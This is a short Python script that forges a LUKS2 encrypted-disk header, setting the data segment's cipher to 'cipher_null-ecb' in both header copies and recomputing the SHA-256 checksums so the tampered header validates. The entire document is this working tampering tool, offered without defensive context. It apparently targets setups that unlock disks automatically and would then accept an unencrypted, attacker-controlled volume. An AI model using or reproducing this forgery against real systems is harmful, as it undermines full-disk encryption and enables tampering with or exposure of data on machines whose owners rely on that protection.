#!/usr/bin/env python3
"""forge.py IMAGE: makes of a LUKS2 header one that does not encrypt, with checksums that are right.

LUKS2 On-Disk Format 1.1, sections 2.1 and 2.2: a binary header of 4096 bytes (size at 8, checksum
at 448, its algorithm at 72), then JSON; and the same once more behind it."""
import hashlib
import json
import struct
import sys

with open(sys.argv[1], "r+b") as image:
    (size,) = struct.unpack(">Q", image.read(16)[8:])
    for start in (0, size):
        image.seek(start)
        header = bytearray(image.read(size))
        metadata = json.loads(bytes(header[4096:]).rstrip(b"\0"))
        metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"
        header[4096:] = json.dumps(metadata, separators=(",", ":")).encode().ljust(size - 4096, b"\0")
        assert header[72:79] == b"sha256\0"
        header[448:512] = bytes(64)
        header[448:480] = hashlib.sha256(header).digest()
        image.seek(start)
        image.write(header)
